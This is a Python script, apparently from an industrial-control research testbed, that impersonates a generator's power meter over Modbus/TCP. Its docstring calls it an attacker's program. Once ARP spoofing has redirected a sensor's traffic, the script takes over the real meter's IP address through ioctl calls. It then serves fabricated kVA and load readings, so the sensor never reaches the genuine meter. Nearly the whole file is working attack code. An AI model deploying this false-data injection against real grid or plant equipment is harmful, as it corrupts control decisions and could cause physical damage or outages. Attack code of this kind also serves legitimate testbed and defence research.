"""A meter that there is not: takes the address of the generator's meter and says what it likes over Modbus/TCP.

A program of an attacker. The sensor's frames for the meter come here once arpspoof has told it so. Its old connection
is unknown here, so that this machine's kernel ends it; the sensor connects anew, to this program. The real meter is
never asked.
"""

import argparse
import asyncio
import fcntl
import socket
import struct

from timeloom.modbus import Server

SIOCSIFADDR, SIOCSIFNETMASK = 0x8916, 0x891C


def add_address(interface: str, address: str) -> None:
    """One more address of an interface, of no subnet (netdevice(7))."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        for call, value in ((SIOCSIFADDR, address), (SIOCSIFNETMASK, "255.255.255.255")):
            named = f"{interface}:1".encode()
            request = struct.pack("16sH2x4s8x", named, socket.AF_INET, socket.inet_aton(value))
            fcntl.ioctl(control, call, request)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--interface", default="eth0")
    parser.add_argument("--address", default="10.0.0.12", help="whose place to take (default 10.0.0.12)")
    parser.add_argument("--kva", type=float, default=1370.0, help="what each phase is said to deliver (default 1370)")
    parser.add_argument(
        "--load-kw",
        type=float,
        nargs=3,
        default=[480.0, 128.0, 170.0],
        metavar="KW",
        help="what the loads 692, 652 and 611 are said to take (default 480 128 170)",
    )
    options = parser.parse_args()
    add_address(options.interface, options.address)
    said = [options.kva] * 3 + options.load_kw
    inputs = {2 * place: (lambda value=value: value) for place, value in enumerate(said)}
    server = Server(inputs, host=options.address)
    asyncio.run(server.serve_async(lambda: print("the false meter listens", flush=True)))


if __name__ == "__main__":
    main()
